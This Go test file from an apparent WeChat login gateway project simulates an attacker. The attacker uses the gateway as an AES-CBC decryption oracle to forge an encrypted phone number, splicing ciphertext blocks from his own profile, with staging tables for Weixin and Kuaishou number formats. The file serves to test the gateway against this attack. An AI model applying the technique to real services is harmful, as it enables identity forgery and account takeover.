package caddymodule_test

import (
	"bytes"
	"crypto/aes"
	"crypto/cipher"
	"crypto/subtle"
	"encoding/base64"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/wxgate/wxgate/internal/auth"
	"github.com/wxgate/wxgate/internal/wechatsim"
)

const (
	ownNumber    = "10011112222" // the attacker's
	forgedNumber = "10099998888"

	// oracleTries is how many ciphertexts the attacker sends for each block that
	// must be decrypted. With a key that is not chosen, some 400,000 are needed.
	oracleTries = 12
)

// oracleStage is how the attacker has block i of the forged plaintext shown: which
// member of his own profile the unknown block falls into, and whether the rest of
// the forged data would be refused, so that the rest of a profile follows instead.
type oracleStage struct{ inName, profileFollows bool }

// oracleAttack forges a phone number with the gateway as a decryption oracle.
// Everything that it sends is made of ciphertexts of the attacker's own data, whose
// plaintext he knows, and of what the gateway showed.
//
// Only the luck is made: the last of oracleTries profiles is encrypted with an IV
// for which the attempt succeeds. WeChat chooses IVs at random, and the attacker
// waits for such a one.
type oracleAttack struct {
	t       testing.TB
	sim     *wechatsim.Sim
	user    wechatsim.User
	key     string
	aes     cipher.Block // for the luck alone
	profile []byte       // plaintext
	at      time.Time    // of the watermarks
	sent    int
	// ask has one ciphertext decrypted; a refusal is "".
	ask func(data auth.OpenData) string
}

// newOracleAttack is an attack by a user who has logged in.
func newOracleAttack(t testing.TB, sim *wechatsim.Sim, user wechatsim.User, ask func(auth.OpenData) string) *oracleAttack {
	t.Helper()
	key, err := sim.SessionKey(user)
	if err != nil {
		t.Fatal(err)
	}
	raw, err := base64.StdEncoding.DecodeString(key)
	if err != nil {
		t.Fatal(err)
	}
	a := &oracleAttack{t: t, sim: sim, user: user, key: key, at: sim.Now(), ask: ask}
	if a.aes, err = aes.NewCipher(raw); err != nil {
		t.Fatal(err)
	}
	a.profile = a.plaintext(a.encryptProfile(""))
	return a
}

// plaintext is what the attacker knows of his own data: the gateway shows it.
func (a *oracleAttack) plaintext(iv []byte, blocks [][]byte) []byte {
	plain := bytes.Join(blocks, nil)
	cipher.NewCBCDecrypter(a.aes, iv).CryptBlocks(plain, plain)
	return plain
}

// encryptProfile is the attacker's own profile as WeChat encrypts it.
func (a *oracleAttack) encryptProfile(iv string) ([]byte, [][]byte) {
	sealed, err := a.sim.EncryptProfile(a.user, wechatsim.Profile{NickName: "mallory-mallory-mallory"}, wechatsim.Sealing{SessionKey: a.key, IV: iv, Timestamp: a.at})
	if err != nil {
		a.t.Fatal(err)
	}
	return parseSealed(a.t, sealed)
}

func parseSealed(t testing.TB, sealed wechatsim.Encrypted) (iv []byte, blocks [][]byte) {
	t.Helper()
	data, err := base64.StdEncoding.DecodeString(sealed.EncryptedData)
	if err != nil {
		t.Fatal(err)
	}
	if iv, err = base64.StdEncoding.DecodeString(sealed.IV); err != nil {
		t.Fatal(err)
	}
	for ; len(data) > 0; data = data[aes.BlockSize:] {
		blocks = append(blocks, data[:aes.BlockSize])
	}
	return iv, blocks
}

// lucky is a profile whose ciphertext block i is want.
func (a *oracleAttack) lucky(i int, want []byte) ([]byte, [][]byte) {
	for ; i >= 0; i-- {
		plain := make([]byte, aes.BlockSize)
		a.aes.Decrypt(plain, want)
		want = xor(plain, a.profile[i*aes.BlockSize:])
	}
	return a.encryptProfile(base64.StdEncoding.EncodeToString(want))
}

// learn has the gateway show D(x), where known follows x; false when it does not.
func (a *oracleAttack) learn(x, known []byte, rest [][]byte, stage oracleStage) ([]byte, bool) {
	at := 3 // the profile's block whose end is inside the value of nickName
	if stage.inName {
		at = 2 // and the one whose end is inside the name nickName
	}
	if stage.profileFollows {
		filler := bytes.Repeat([]byte("b"), aes.BlockSize)
		_, follow := a.lucky(1, xor(xor(a.profile[2*aes.BlockSize:], known), filler))
		rest = follow[2:]
	}
	for try := range oracleTries {
		iv, blocks := a.encryptProfile("")
		if try == oracleTries-1 {
			shown := make([]byte, aes.BlockSize)
			a.aes.Decrypt(shown, x)
			iv, blocks = a.lucky(at, xor(shown, []byte("sixteen legal by")))
		}
		shown := a.send(iv, slices.Concat(blocks[:at+1], [][]byte{x, known}, rest))
		if shown != "" {
			return xor([]byte(shown)[(at+1)*aes.BlockSize:], blocks[at]), true
		}
	}
	return nil, false
}

func (a *oracleAttack) send(iv []byte, blocks [][]byte) string {
	a.sent++
	return a.ask(auth.OpenData{
		EncryptedData: base64.StdEncoding.EncodeToString(bytes.Join(blocks, nil)),
		IV:            base64.StdEncoding.EncodeToString(iv),
	})
}

// forge changes the attacker's encrypted number and reports whether it is shown as
// a phone number. Stage i shows what decrypts to block i-1 of the forged data.
func (a *oracleAttack) forge(stages map[int]oracleStage) bool {
	sealed, err := a.sim.EncryptPhone(a.user, wechatsim.PhoneNumber{Number: ownNumber}, wechatsim.Sealing{SessionKey: a.key, Timestamp: a.at})
	if err != nil {
		a.t.Fatal(err)
	}
	iv, blocks := parseSealed(a.t, sealed)
	plain := a.plaintext(iv, blocks)
	forged := bytes.ReplaceAll(plain, []byte(ownNumber), []byte(forgedNumber))
	last := len(stages)
	shown := xor(plain[last*aes.BlockSize:], blocks[last-1]) // D of the last block that changes
	for i := last; i > 0; i-- {
		blocks[i-1] = xor(shown, forged[i*aes.BlockSize:])
		var ok bool
		if shown, ok = a.learn(blocks[i-1], blocks[i], blocks[i+1:], stages[i]); !ok {
			return false
		}
	}
	return strings.Contains(a.send(xor(shown, forged), blocks), forgedNumber)
}

func xor(a, b []byte) []byte {
	out := make([]byte, aes.BlockSize)
	subtle.XORBytes(out, a[:aes.BlockSize], b[:aes.BlockSize])
	return out
}

// The stages of the attack, for each way in which a platform writes a number; the
// bars are between the blocks.
var (
	// {"phoneNumber":"|10011112222","pu|rePhoneNumber":"|10011112222","co|untryCode": ...
	weixinStages = map[int]oracleStage{3: {}, 2: {inName: true}, 1: {profileFollows: true}}
	// {"countryCode":"|86","phoneNumber|":"10011112222"}|padding.
	kuaishouStages = map[int]oracleStage{2: {inName: true}, 1: {profileFollows: true}}
)
